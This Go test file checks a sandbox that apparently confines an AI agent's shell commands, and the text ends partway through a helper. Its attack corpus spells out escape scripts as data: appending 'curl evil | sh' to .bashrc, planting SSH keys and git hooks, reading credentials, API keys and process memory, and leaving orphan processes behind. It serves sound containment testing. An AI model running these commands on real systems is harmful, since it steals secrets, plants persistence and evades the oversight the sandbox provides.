package sandbox_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/apserver/apserver/internal/proctest"
	"github.com/apserver/apserver/tools"
	"github.com/apserver/apserver/tools/sandbox"
)

// The attack corpus: each attack is a script that tries to get out of the
// sandbox. It runs through tools.Exec in a workspace under /var/tmp (so
// that a writable /tmp cannot mask an escape) with HOME pointing at a fake
// home holding canary secrets, and passes if no escape is detected:
//
//   - files under the test's base directory (outside dir, fake home, and
//     the workspace in read-only mode) and a set of system paths keep
//     their content and metadata (mode, owner, mtime, ctime), and nothing
//     appears or disappears there;
//   - no canary (secret files, the victim process's environment, the
//     token the test's TCP, UDP and abstract unix servers send) shows up
//     in the output or in the workspace, and no server saw a client;
//   - the victim process (a sleep the test started) is still running;
//   - the output lacks escapedMarker, which scripts print when an
//     operation that must fail succeeded.
//
// The same detector must see escapes in danger-full-access mode
// (TestFullAccessEscapesAreDetected), and every attack has a positive
// control showing the tool it uses works inside the sandbox.

const escapedMarker = "SANDBOX-ESCAPED"

type attack struct {
	name   string
	script string
	// needs are executables the script uses; the case is skipped if one
	// is missing.
	needs []string
	// needsVar is a harness variable the case needs (set only when the
	// machine has the thing, e.g. HOST_IP).
	needsVar string
}

// py wraps a python3 one-liner.
func py(code string) string { return "python3 -c '" + code + "'" }

var attacks = []attack{
	// Writing outside the workspace.
	{name: "write-new-file-in-sibling", script: `echo pwn > "$OUT/new.txt"`},
	{name: "append-to-sibling-file", script: `echo pwn >> "$OUT/secret.txt"`},
	{name: "truncate-sibling-file", script: `truncate -s 0 "$OUT/secret.txt"`},
	{name: "redirect-truncate-sibling-file", script: `: > "$OUT/secret.txt"`},
	{name: "open-read-write-sibling-file", script: `exec 3<>"$OUT/secret.txt" && echo pwn >&3`},
	{name: "rm-sibling-file", script: `rm -f "$OUT/secret.txt"`},
	{name: "rm-rf-sibling-dir", script: `rm -rf "$OUT"`},
	{name: "mv-sibling-file-into-workspace", script: `mv "$OUT/secret.txt" "$WS/"`},
	{name: "mv-within-sibling", script: `mv "$OUT/secret.txt" "$OUT/renamed.txt"`},
	{name: "symlink-in-sibling", script: `ln -s /etc/passwd "$OUT/link"`},
	{name: "hardlink-workspace-file-into-sibling", script: `ln "$WS/file.txt" "$OUT/hard"`},
	{name: "chmod-sibling-file", script: `chmod 777 "$OUT/secret.txt"`},
	{name: "setuid-bit-on-sibling-file", script: `chmod u+s "$OUT/secret.txt"`},
	{name: "chown-sibling-file", script: `chown 1234:1234 "$OUT/secret.txt"`},
	{name: "touch-existing-sibling-file", script: `touch "$OUT/secret.txt"`},
	{name: "touch-date-sibling-file", script: `touch -d 2001-01-01 "$OUT/secret.txt"`},
	{name: "setxattr-sibling-file", script: py(`import os; os.setxattr(os.environ["OUT"]+"/secret.txt", "user.pwn", b"1")`), needs: []string{"python3"}},
	{name: "mkdir-in-sibling", script: `mkdir "$OUT/newdir"`},
	{name: "mkfifo-in-sibling", script: `mkfifo "$OUT/fifo"`},
	{name: "dotdot-escape", script: `echo pwn >> "$WS/../outside/secret.txt"`},
	{name: "cd-dotdot-touch", script: `cd "$WS/.." && touch pwned`},
	{name: "symlink-created-in-workspace", script: `ln -s "$OUT/secret.txt" "$WS/evil"; echo pwn >> "$WS/evil"`},
	{name: "dir-symlink-created-in-workspace", script: `ln -s "$OUT" "$WS/evildir"; touch "$WS/evildir/new"`},
	{name: "symlink-shipped-in-workspace", script: `echo pwn >> "$WS/outside-link/secret.txt"; touch "$WS/outside-link/new"`},
	{name: "hardlink-sibling-file-into-workspace", script: `ln "$OUT/secret.txt" "$WS/hard"; echo pwn >> "$WS/hard"`},
	{name: "cp-to-sibling", script: `cp "$WS/file.txt" "$OUT/"`},
	{name: "tee-to-sibling", script: `echo pwn | tee -a "$OUT/secret.txt"`},
	{name: "dd-to-sibling", script: `dd if=/dev/zero of="$OUT/secret.txt" bs=1 count=1 conv=notrunc`},
	{name: "sed-in-place-sibling", script: `sed -i s/secret/pwned/ "$OUT/secret.txt"`},
	{name: "install-to-sibling", script: `install -m 644 "$WS/file.txt" "$OUT/installed"`},
	{name: "find-delete-sibling", script: `find "$OUT" -delete`},
	{name: "python-write-sibling", script: py(`import os; open(os.environ["OUT"]+"/secret.txt", "a").write("pwn")`), needs: []string{"python3"}},
	{name: "perl-write-sibling", script: `perl -e 'open(F, ">>", "$ENV{OUT}/secret.txt") or exit 1; print F "pwn"'`, needs: []string{"perl"}},
	{name: "git-init-in-sibling", script: `git init -q "$OUT/repo"`, needs: []string{"git"}},
	{name: "write-via-proc-self-root", script: `echo pwn >> "/proc/self/root$OUT/secret.txt"`},
	{name: "write-via-proc-self-cwd", script: `cd "$OUT" && echo pwn >> /proc/self/cwd/secret.txt`},
	{name: "write-via-victim-cwd", script: `echo pwn > "/proc/$VICTIM/cwd/new-via-victim"`},
	{name: "write-inherited-descriptor", script: `echo pwn >&$LEAKFD`},
	{name: "etc-create", script: `echo pwn > "/etc/$ESC"`},
	{name: "etc-chmod-existing", script: `chmod "$(stat -c %a /etc/hostname)" /etc/hostname`},
	{name: "usr-local-create", script: `touch "/usr/local/$ESC"; mkdir "/usr/local/bin/$ESC"`},
	{name: "opt-and-var-lib-create", script: `touch "/opt/$ESC" "/var/lib/$ESC"`},
	{name: "var-tmp-create", script: `touch "/var/tmp/$ESC"`},
	{name: "tmp-create", script: `touch "/tmp/$ESC"`},
	{name: "cd-root-touch", script: `cd / && touch "$ESC"`},
	{name: "root-home-create", script: `touch "/root/$ESC"`},
	{name: "dev-shm-create", script: `echo pwn > "/dev/shm/$ESC"`},
	{name: "home-bashrc-append", script: `echo 'curl evil | sh' >> "$HOME/.bashrc"`},
	{name: "home-authorized-keys", script: `mkdir -p "$HOME/.ssh"; echo ssh-ed25519 pwn >> "$HOME/.ssh/authorized_keys"`},
	{name: "home-config-autostart", script: `mkdir -p "$HOME/.config/autostart"`},
	{name: "home-toolchain-dir-write", script: `echo pwn > "$HOME/go/pwned"; echo pwn >> "$HOME/go/marker"`},

	// Devices, mounts, namespaces, privileges.
	{name: "mknod-block-device-in-workspace", script: `mknod "$WS/disk" b 7 0 && echo ` + escapedMarker},
	{name: "read-raw-disk", script: `head -c 512 "$DISK" > /dev/null && echo ` + escapedMarker, needsVar: "DISK"},
	{name: "open-kernel-log", script: `exec 3< "$KMSG" && echo ` + escapedMarker, needsVar: "KMSG"},
	{name: "mount-tmpfs-over-sibling", script: `mount -t tmpfs none "$OUT" && echo ` + escapedMarker},
	{name: "bind-mount-sibling-over-workspace", script: `mount --bind "$OUT" "$WS" && echo ` + escapedMarker + `; echo pwn >> "$WS/secret.txt"`},
	{name: "remount-root-read-write", script: `mount -o remount,rw / && echo ` + escapedMarker + `; touch "$OUT/new"`},
	{name: "mount-setattr-clear-read-only", needs: []string{"python3"}, script: py(`import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
attr = ctypes.create_string_buffer(struct.pack("QQQQ", 0, 1, 0, 0))
if libc.syscall(442, -100, b"/", 0, attr, 32) == 0: print("` + escapedMarker + `")`)},
	// In a nested user namespace the command has every capability again,
	// over namespaces of its own; the mounts it inherits stay locked.
	{name: "unshare-and-remount", needs: []string{"unshare", "python3"}, script: `unshare -Um --propagation unchanged python3 -c '` + `import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
attr = ctypes.create_string_buffer(struct.pack("QQQQ", 0, 1, 0, 0))
for ok in (libc.mount(None, b"/", None, 32 | 4096, None) == 0,
           libc.syscall(442, -100, b"/", 0, attr, 32) == 0,
           libc.mount(os.environ["OUT"].encode(), os.environ["WS"].encode(), None, 4096, None) == 0):
    if ok: print("` + escapedMarker + `")
open(os.environ["OUT"] + "/secret.txt", "a").write("pwn")'`},
	{name: "chroot-and-write", script: `chroot / sh -c 'echo pwn >> "$OUT/secret.txt"'`, needs: []string{"chroot"}},
	{name: "no-new-privileges", script: `grep -Eq '^NoNewPrivs:\s+1$' /proc/self/status || echo ` + escapedMarker},
	{name: "sysrq-trigger", script: `echo h > "$SYSRQ" && echo ` + escapedMarker, needsVar: "SYSRQ"},
	{name: "sysctl-write", script: `cat /proc/sys/kernel/hostname > /proc/sys/kernel/hostname && echo ` + escapedMarker},

	// Reading secrets.
	{name: "read-ssh-key", script: `cat "$HOME/.ssh/id_rsa"`},
	{name: "read-aws-credentials", script: `cat "$HOME/.aws/credentials"`},
	{name: "read-shell-history", script: `cat "$HOME/.bash_history"`},
	{name: "list-home", script: `ls -a "$HOME" | grep -q bash_history && echo ` + escapedMarker},
	{name: "grep-home", script: `grep -r CANARY "$HOME"`},
	{name: "tar-home-into-workspace", script: `tar cf "$WS/home.tar" -C "$HOME" .`},
	{name: "python-read-credentials", script: py(`import os; print(open(os.environ["HOME"]+"/.aws/credentials").read())`), needs: []string{"python3"}},
	{name: "read-via-dotdot", script: `cat "$WS/../home/.ssh/id_rsa"`},
	{name: "read-via-symlink-in-workspace", script: `ln -s "$HOME/.ssh" "$WS/s"; cat "$WS/s/id_rsa"`},
	{name: "read-via-proc-self-root", script: `cat "/proc/self/root$HOME/.ssh/id_rsa"`},
	{name: "read-victim-environ", script: `cat "/proc/$VICTIM/environ"`},
	{name: "read-via-victim-cwd", script: `cat "/proc/$VICTIM/cwd/.ssh/id_rsa"`},
	{name: "read-via-victim-root", script: `cat "/proc/$VICTIM/root$HOME/.aws/credentials"`},
	{name: "open-victim-memory", script: `exec 3< "/proc/$VICTIM/mem" && echo ` + escapedMarker},
	{name: "read-ssh-key-by-file-handle", needs: []string{"python3"}, script: py(`import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure): _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("f", ctypes.c_ubyte * 128)]
h = Handle(size=128); mnt = ctypes.c_int()
if libc.name_to_handle_at(-100, (os.environ["HOME"] + "/.ssh/id_rsa").encode(), ctypes.byref(h), ctypes.byref(mnt), 0): raise SystemExit("name_to_handle_at")
fd = libc.open_by_handle_at(os.open("/etc", os.O_RDONLY), ctypes.byref(h), os.O_RDONLY)
if fd < 0: raise SystemExit("open_by_handle_at: errno %d" % ctypes.get_errno())
print(os.read(fd, 200))`)},
	{name: "reopen-o-path-descriptor", needs: []string{"python3"}, script: py(`import os
fd = os.open(os.environ["HOME"] + "/.ssh/id_rsa", os.O_PATH)
print(open("/proc/self/fd/%d" % fd).read())`)},
	{name: "ptrace-victim", needs: []string{"python3"}, script: py(`import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, int(os.environ["VICTIM"]), 0, 0) == 0: print("` + escapedMarker + `")`)},

	// Network and IPC.
	{name: "tcp-bash-dev-tcp", script: `exec 3<>"/dev/tcp/127.0.0.1/$TCP_PORT" && cat <&3`},
	{name: "tcp-python", needs: []string{"python3"}, script: py(`import os, socket
s = socket.create_connection(("127.0.0.1", int(os.environ["TCP_PORT"])), timeout=10)
print(s.recv(200))`)},
	{name: "tcp-curl", script: `curl -s --max-time 10 "http://127.0.0.1:$TCP_PORT/"`, needs: []string{"curl"}},
	{name: "tcp-ipv6-loopback", script: `exec 3<>"/dev/tcp/::1/$TCP_PORT" && cat <&3`, needsVar: "IPV6"},
	{name: "tcp-host-address", script: `exec 3<>"/dev/tcp/$HOST_IP/$TCP_PORT" && cat <&3`, needsVar: "HOST_IP"},
	{name: "tcp-after-loopback-up", script: `ip link set lo up; exec 3<>"/dev/tcp/127.0.0.1/$TCP_PORT" && cat <&3`, needs: []string{"ip"}},
	{name: "udp-bash-send", script: `echo ping > "/dev/udp/127.0.0.1/$UDP_PORT" && echo ` + escapedMarker},
	{name: "udp-python-round-trip", needs: []string{"python3"}, script: py(`import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
s.sendto(b"ping", ("127.0.0.1", int(os.environ["UDP_PORT"]))); print(s.recv(200))`)},
	{name: "dns-query-to-system-resolver", needsVar: "DNS", needs: []string{"python3"}, script: py(`import socket, struct
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
q = struct.pack(">6H", 0x1234, 0x0100, 1, 0, 0, 0) + b"\7example\3com\0" + struct.pack(">2H", 1, 1)
s = socket.socket(socket.AF_INET6 if ":" in ns else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
s.sendto(q, (ns, 53)); s.recv(512); print("` + escapedMarker + `")`)},
	{name: "abstract-unix-socket", needs: []string{"python3"}, script: py(`import os, socket
s = socket.socket(socket.AF_UNIX); s.settimeout(10)
s.connect("\0" + os.environ["ABSTRACT"]); print(s.recv(200))`)},

	// Pathname unix sockets (servers the harness listens on; see
	// startUnixServers): in the host's /tmp, under /run, in a directory
	// outside the workspace, in a readable root, in /dev/shm, and reached
	// through a symlink made in the workspace.
	{name: "unix-socket-tmp", needs: []string{"python3"}, script: unixConnect("SOCK_TMP")},
	{name: "unix-socket-run", needs: []string{"python3"}, script: unixConnect("SOCK_RUN")},
	{name: "unix-socket-outside", needs: []string{"python3"}, script: unixConnect("SOCK_OUT")},
	{name: "unix-socket-readable-root", needs: []string{"python3"}, script: unixConnect("SOCK_EXTRA")},
	{name: "unix-socket-dev-shm", needs: []string{"python3"}, script: unixConnect("SOCK_SHM")},
	{name: "unix-socket-via-workspace-symlink", needs: []string{"python3"}, script: `ln -s "$SOCK_RUN" "$WS/sock"; SOCK_LINK="$WS/sock" ` + unixConnect("SOCK_LINK")},
	{name: "unix-socket-via-proc-root", needs: []string{"python3"}, script: `SOCK_PROC="/proc/1/root$SOCK_RUN" ` + unixConnect("SOCK_PROC")},
	{name: "unix-datagram-run", needs: []string{"python3"}, script: py(`import os, socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b"ping", os.environ["DGRAM_RUN"]); print("` + escapedMarker + `")`)},

	// .git and .apserver in the workspace: what the user's git or
	// apserver would later run or read outside the sandbox.
	{name: "git-hook-pre-commit", script: `mkdir -p .git/hooks; printf '#!/bin/sh\ntouch "$OUT/hooked"\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`},
	{name: "git-config-fsmonitor", script: `git config core.fsmonitor "touch $OUT/fsmonitor"; printf '[core]\n\tfsmonitor = touch %s/fsmonitor\n' "$OUT" >> .git/config`},
	{name: "git-commit", script: `git add file.txt && git -c user.name=t -c user.email=t@t commit -qm m`, needs: []string{"git"}},
	{name: "git-replace-dir", script: `rm -rf .git; mkdir -p .git/hooks && echo pwn > .git/hooks/pre-commit`},
	{name: "git-move-dir-away", script: `mv .git git-old && mkdir -p .git/hooks && echo pwn > .git/hooks/pre-commit`},
	{name: "git-replace-by-symlink", script: `rm -rf .git; ln -s "$WS/fake-git" .git; mkdir -p fake-git/hooks`},
	{name: "apserver-config-write", script: `echo '[sandbox]' >> .apserver/config.toml; echo x > .apserver/rules`},
	{name: "apserver-replace-dir", script: `rm -rf .apserver; mv .apserver old-apserver; mkdir -p .apserver && echo pwn > .apserver/config.toml`},

	// Processes that outlive the command: a daemon that left the process
	// group (setsid), as a model might leave one behind on purpose.
	{name: "orphan-setsid", script: `setsid bash -c 'exec -a "$ORPHAN" sleep 1000' < /dev/null > /dev/null 2>&1 & sleep 0.2`},
	{name: "orphan-double-fork", script: `( ( exec -a "$ORPHAN" sleep 1000 ) < /dev/null > /dev/null 2>&1 & ) ; sleep 0.2`},

	// Signals.
	{name: "kill-victim", script: `kill -9 "$VICTIM" && echo ` + escapedMarker},
}

// secretAttacks try to read apserver's secrets (TestApserverSecrets):
// the API key in its environment, through the command's own environment
// and every process the command can see (the sandbox helper is its pid 1
// and its parent), their memory, descriptors and command lines, and the
// files of apserver's data dir.
var secretAttacks = []attack{
	{name: "env", script: `env; printenv OPENAI_API_KEY APSERVER_TEST_PROVIDER_AUTH`},
	{name: "env-into-workspace", script: `env > "$WS/env.txt"`},
	{name: "parent-environ", script: `cat /proc/$PPID/environ; tr '\0' '\n' < /proc/$PPID/environ > "$WS/ppid.txt"`},
	{name: "init-environ", script: `cat /proc/1/environ`},
	{name: "every-environ", script: `for p in /proc/[0-9]*; do cat "$p/environ"; echo; done`},
	{name: "every-cmdline", script: `for p in /proc/[0-9]*; do tr '\0' ' ' < "$p/cmdline"; echo; done`},
	{name: "environ-via-self-dotdot", script: `cat /proc/self/../1/environ /proc/self/root/proc/1/environ /proc/thread-self/../../1/environ`},
	{name: "environ-of-every-task", script: `cat /proc/1/task/*/environ`},
	// (The names of the fd entries are listable by a root command, which
	// has CAP_DAC_READ_SEARCH in the namespace; what they lead to is not.)
	{name: "init-fd-links", script: `readlink /proc/1/fd/* /proc/1/cwd /proc/1/exe /proc/1/root | grep -q . && echo ` + escapedMarker},
	{name: "every-fd", script: `ls -l /proc/[0-9]*/fd/ | grep -E 'leak.txt|state.sqlite|socket:' && echo ` + escapedMarker},
	{name: "init-maps", script: `cat /proc/1/maps > /dev/null && echo ` + escapedMarker},
	{name: "init-open-mem", script: `exec 3< /proc/1/mem && echo ` + escapedMarker},
	{name: "init-read-mem", needs: []string{"python3"}, script: py(`import re
for l in open("/proc/1/maps"):
    a, b = [int(x, 16) for x in l.split()[0].split("-")]
    if "[stack]" in l:
        f = open("/proc/1/mem", "rb"); f.seek(a); print(f.read(b - a))`)},
	{name: "ptrace-attach-init", needs: []string{"python3"}, script: py(`import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for req in (16, 0x4206):
    if libc.ptrace(req, 1, 0, 0) == 0: print("` + escapedMarker + `")`)},
	{name: "gdb-attach-init", needs: []string{"gdb"}, script: `gdb -q -nx -p 1 -batch -ex detach 2>&1 | grep -q 'Detaching from' && echo ` + escapedMarker},
	{name: "strace-attach-init", needs: []string{"strace"}, script: `timeout 2 strace -p 1 -o /dev/null 2>&1 | grep -qi 'attached' && echo ` + escapedMarker},
	{name: "read-data-dir", script: `cat "$DATA/state.sqlite" "$DATA/ws-token"; ls -la "$DATA"`},
	{name: "grep-data-dir", script: `grep -ra CANARY "$HOME/.local" "$DATA"`},
	{name: "copy-data-dir", script: `cp -r "$DATA" "$WS/data"`},
	{name: "data-dir-via-proc-root", script: `cat "/proc/1/root$DATA/state.sqlite" "/proc/self/root$DATA/ws-token"`},
}

// unixConnect is a script that connects to the unix socket named by the
// environment variable v and prints what it reads.
func unixConnect(v string) string {
	return py(`import os, socket
s = socket.socket(socket.AF_UNIX); s.settimeout(10)
s.connect(os.environ["` + v + `"]); print(s.recv(200))`)
}

// workspaceWrites must fail in read-only mode and work in workspace-write
// mode (where they are positive controls).
var workspaceWrites = []attack{
	{name: "create-file", script: `echo new > "$WS/new.txt" && cat "$WS/new.txt"`},
	{name: "append-file", script: `echo more >> file.txt && cat file.txt`},
	{name: "truncate-file", script: `truncate -s 0 file.txt && wc -c < file.txt`},
	{name: "rm-file", script: `rm file.txt && ls`},
	{name: "mkdir-mv-rm", script: `mkdir -p d/e && mv file.txt d/e/ && rm -r d && echo done`},
	{name: "symlink-and-hardlink", script: `ln -s file.txt soft && ln file.txt hard && cat soft hard`},
	{name: "chmod-file", script: `chmod +x file.txt && test -x file.txt && echo done`},
	{name: "python-write", script: py(`open("py.txt", "w").write("py")`) + ` && cat py.txt`, needs: []string{"python3"}},
	{name: "perl-write", script: `perl -e 'open(F, ">", "pl.txt") or exit 1; print F "pl"' && cat pl.txt`, needs: []string{"perl"}},
	{name: "sed-in-place", script: `sed -i s/hello/bye/ file.txt && cat file.txt`},
	{name: "unix-socket-server", needs: []string{"python3"}, script: py(`import socket
l = socket.socket(socket.AF_UNIX); l.bind("srv.sock"); l.listen(1)
c = socket.socket(socket.AF_UNIX); c.connect("srv.sock"); a, _ = l.accept(); a.send(b"served"); print(c.recv(10).decode())`)},
	{name: "git-init-new-repo", script: `mkdir sub && cd sub && git init -q && mkdir -p .git/hooks && echo ok > .git/hooks/x && cat .git/hooks/x`, needs: []string{"git"}},
}

// control is a command that must work in the sandbox: exit 0 with want in
// the output.
type control struct {
	name, script, want string
	needs              []string
}

var controls = []control{
	{name: "read-system-file", script: `cat /etc/hostname >/dev/null && echo done`, want: "done"},
	{name: "list-system-dir", script: `ls /usr/bin | grep -qx bash && echo done`, want: "done"},
	{name: "read-workspace", script: `cat file.txt`, want: "hello"},
	{name: "bash", script: `bash -c 'echo $((6 * 7))'`, want: "42"},
	{name: "exit-status", script: `bash -c 'exit 0'; echo $?`, want: "0"},
	{name: "go-version", script: `go version`, want: "go version", needs: []string{"go"}},
	{name: "go-env-goroot-readable", script: `ls "$(go env GOROOT)/src/fmt" | grep -qx print.go && echo done`, want: "done", needs: []string{"go"}},
	{name: "git-status", script: `git status --short --branch`, want: "## ", needs: []string{"git"}},
	{name: "python", script: py(`print(6 * 7)`), want: "42", needs: []string{"python3"}},
	{name: "perl", script: `perl -e 'print 6 * 7'`, want: "42", needs: []string{"perl"}},
	{name: "curl-runs", script: `curl --version`, want: "curl", needs: []string{"curl"}},
	{name: "dev-null-and-urandom", script: `echo x > /dev/null && head -c 4 /dev/urandom | wc -c`, want: "4"},
	{name: "dev-stdout", script: `echo done > /dev/stdout`, want: "done"},
	{name: "home-toolchain-readable", script: `cat "$HOME/go/marker"`, want: "TOOLCHAIN-OK"},
	{name: "readable-root", script: `cat "$EXTRA/readme"`, want: "EXTRA-RO-OK"},
	{name: "proc-self", script: `grep -c ^Name: /proc/self/status`, want: "1"},
	{name: "signal-own-child", script: `sleep 100 & kill -9 $! && wait $!; echo $?`, want: "137"},
	{name: "unix-socket-inside", needs: []string{"python3"}, want: "inside", script: py(`import socket
a, b = socket.socketpair(); a.send(b"inside"); print(b.recv(10).decode())`)},
}

func TestAttacks(t *testing.T) {
	for _, mode := range []sandbox.Mode{sandbox.ReadOnly, sandbox.WorkspaceWrite} {
		t.Run(string(mode), func(t *testing.T) {
			h := newHarness(t, sandbox.Policy{Mode: mode})
			for _, a := range attacks {
				t.Run(a.name, func(t *testing.T) { h.mustNotEscape(t, a) })
			}
			if mode == sandbox.ReadOnly {
				for _, a := range workspaceWrites {
					t.Run("workspace-"+a.name, func(t *testing.T) { h.mustNotEscape(t, a) })
				}
			}
		})
	}
}

func TestControls(t *testing.T) {
	for _, mode := range []sandbox.Mode{sandbox.ReadOnly, sandbox.WorkspaceWrite} {
		t.Run(string(mode), func(t *testing.T) {
			h := newHarness(t, sandbox.Policy{Mode: mode})
			for _, c := range controls {
				t.Run(c.name, func(t *testing.T) { h.mustWork(t, c) })
			}
			if mode == sandbox.WorkspaceWrite {
				for _, a := range workspaceWrites {
					t.Run("workspace-"+a.name, func(t *testing.T) {
						h.mustWork(t, control{name: a.name, script: a.script, needs: a.needs})
					})
				}
			}
		})
	}
}

// TestFullAccessEscapesAreDetected runs attacks without a sandbox: each
// must be seen as an escape, or the corpus would prove nothing.
func TestFullAccessEscapesAreDetected(t *testing.T) {
	h := newHarness(t, sandbox.Policy{Mode: sandbox.FullAccess})
	for _, name := range []string{
		"append-to-sibling-file", "chmod-sibling-file", "touch-existing-sibling-file",
		"setxattr-sibling-file", "symlink-shipped-in-workspace", "write-via-proc-self-root",
		"write-inherited-descriptor", "read-ssh-key", "read-victim-environ", "list-home",
		"read-ssh-key-by-file-handle", "reopen-o-path-descriptor", "dns-query-to-system-resolver",
		"tar-home-into-workspace", "mknod-block-device-in-workspace", "read-raw-disk",
		"tcp-bash-dev-tcp", "tcp-python", "udp-python-round-trip", "abstract-unix-socket",
		"unix-socket-tmp", "unix-socket-run", "unix-socket-outside", "unix-socket-readable-root",
		"unix-socket-dev-shm", "unix-socket-via-workspace-symlink", "unix-datagram-run",
		"git-hook-pre-commit", "git-config-fsmonitor", "git-commit", "git-replace-dir",
		"git-move-dir-away", "git-replace-by-symlink", "apserver-config-write", "apserver-replace-dir",
		"orphan-setsid",
		"kill-victim", // last: the victim is gone afterwards
	} {
		i := slices.IndexFunc(attacks, func(a attack) bool { return a.name == name })
		if i < 0 {
			t.Fatalf("no attack %q", name)
		}
		t.Run(name, func(t *testing.T) {
			if evidence := h.run(t, attacks[i]); len(evidence) == 0 {
				t.Errorf("%s: escape not detected without a sandbox", name)
			}
		})
	}
}

// TestNetworkAllowed checks that Network opens TCP but nothing else:
// files, secrets, abstract sockets and signals stay confined.
func TestNetworkAllowed(t *testing.T) {
	h := newHarness(t, sandbox.Policy{Mode: sandbox.WorkspaceWrite, Network: true})
	h.mustWork(t, control{name: "tcp", script: `exec 3<>"/dev/tcp/127.0.0.1/$TCP_PORT" && cat <&3`, want: h.vars["TOKEN"]})
	for _, a := range attacks {
		switch a.name {
		case "append-to-sibling-file", "chmod-sibling-file", "read-ssh-key", "read-victim-environ",
			"abstract-unix-socket", "kill-victim", "etc-create":
			t.Run(a.name, func(t *testing.T) { h.mustNotEscape(t, a) })
		}
	}
}

func TestWritableAndReadableRoots(t *testing.T) {
	h := newHarness(t, sandbox.Policy{Mode: sandbox.WorkspaceWrite, AllowTmp: true})
	extra := filepath.Join(h.base, "extra-rw")
	tmpdir := filepath.Join(h.base, "tmpdir")
	for _, d := range []string{extra, tmpdir} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	h.policy.WritableRoots = append(h.policy.WritableRoots, extra)
	h.env = append(h.env, "TMPDIR="+tmpdir, "EXTRA_RW="+extra)
	t.Cleanup(func() { os.Remove(filepath.Join("/tmp", h.vars["ESC"])) })
	h.mustWork(t, control{
		name:   "extra-root-tmp-and-tmpdir",
		script: `echo a > "$EXTRA_RW/f" && touch "/tmp/$ESC" "$TMPDIR/f" && cat "$EXTRA_RW/f"`,
		want:   "a",
	})
	if os.Getuid() == 0 {
		h.mustWork(t, control{
			name:   "file-owned-by-another-user",
			script: `echo a > theirs && chown 1000:1000 theirs && chmod 644 theirs && echo b >> theirs && stat -c %u theirs`,
			want:   "1000",
		})
	}
	// /tmp is private to the sandbox, but the same from one command to
	// the next.
	if tmp, err := sandbox.PrivateTmp(); err == nil {
		t.Cleanup(func() { os.Remove(filepath.Join(tmp, h.vars["ESC"]+"-kept")) })
	}
	h.mustWork(t, control{name: "tmp-kept", script: `echo kept > "/tmp/$ESC-kept"`})
	h.mustWork(t, control{name: "tmp-kept", script: `cat "/tmp/$ESC-kept"`, want: "kept"})
	// With /tmp writable the outside dir and the host's sockets in /tmp
	// are still closed.
	for _, name := range []string{"append-to-sibling-file", "var-tmp-create", "read-ssh-key", "unix-socket-tmp", "unix-socket-run", "unix-socket-readable-root", "git-hook-pre-commit"} {
		i := slices.IndexFunc(attacks, func(a attack) bool { return a.name == name })
		t.Run(name, func(t *testing.T) { h.mustNotEscape(t, attacks[i]) })
	}
}

// TestMissingApserverDir checks that a command cannot create the
// .apserver directory that a workspace lacks: apserver would read it as
// the workspace's configuration and rules.
func TestMissingApserverDir(t *testing.T) {
	h := newHarness(t, sandbox.Policy{Mode: sandbox.WorkspaceWrite})
	for _, script := range []string{
		`mkdir -p .apserver && echo '[sandbox]' > .apserver/config.toml`,
		`rmdir .apserver; mv .apserver gone; mkdir .apserver; echo x > .apserver/rules`,
		`ln -s "$WS/mine" .apserver; mkdir -p mine && echo x > mine/rules`,
	} {
		h.seed(t)
		if err := os.RemoveAll(filepath.Join(h.ws, ".apserver")); err != nil {
			t.Fatal(err)
		}
		res := h.execute(t, script)
		var found []string
		filepath.WalkDir(filepath.Join(h.ws, ".apserver"), func(path string, d os.DirEntry, err error) error {
			if err == nil && !d.IsDir() {
				found = append(found, path)
			}
			return nil
		})
		if len(found) > 0 {
			t.Errorf("%q made %q (output %q)", script, found, res.Output)
		}
	}
}

// TestApserverSecrets: apserver's secrets reach no command. The test
// process plays apserver: its environment holds an API key (OPENAI_API_KEY)
// and a variable HideEnv names, its data dir (Conceal) holds a store and
// a token, and commands are started with its environment (Env nil). In
// both sandbox modes no attack finds them; without a sandbox the command's
// environment is still scrubbed, and the data dir is readable (the
// detector's positive control).
func TestApserverSecrets(t *testing.T) {
	for _, mode := range []sandbox.Mode{sandbox.ReadOnly, sandbox.WorkspaceWrite, sandbox.FullAccess} {
		t.Run(string(mode), func(t *testing.T) {
			h := newHarness(t, sandbox.Policy{Mode: mode})
			h.inheritEnv(t)
			for _, a := range secretAttacks {
				t.Run(a.name, func(t *testing.T) {
					if mode != sandbox.FullAccess {
						h.mustNotEscape(t, a)
						return
					}
					evidence := h.run(t, a)
					switch {
					case strings.HasPrefix(a.name, "env"):
						if len(evidence) > 0 {
							t.Errorf("%s without a sandbox: %s", a.name, strings.Join(evidence, "; "))
						}
					case a.name == "read-data-dir":
						if len(evidence) == 0 {
							t.Errorf("%s: escape not detected without a sandbox", a.name)
						}
					}
				})
			}
		})
	}
}

// inheritEnv makes the harness's commands start with the test process's
// environment (Env nil), which then holds the harness's variables plus
// the secrets of an apserver: an API key in OPENAI_API_KEY, a provider key
// in a variable HideEnv names, and a data dir (Conceal) with a store and a
// token, all canaries.
func (h *harness) inheritEnv(t *testing.T) {
	t.Helper()
	id := strings.TrimPrefix(filepath.Base(h.base), "apserver-sandbox-")
	key, auth, store := "CANARY-APIKEY-"+id, "CANARY-PROVIDER-"+id, "CANARY-STORE-"+id
	h.secrets = append(h.secrets, key, auth, store)
	data := filepath.Join(h.home, ".local", "share", "apserver")
	writeFiles(t, map[string]string{
		filepath.Join(data, "state.sqlite"): "SQLite format 3\x00" + store,
		filepath.Join(data, "ws-token"):     store,
	})
	sandbox.Conceal(data)
	sandbox.HideEnv("APSERVER_TEST_PROVIDER_AUTH")
	h.vars["DATA"] = data
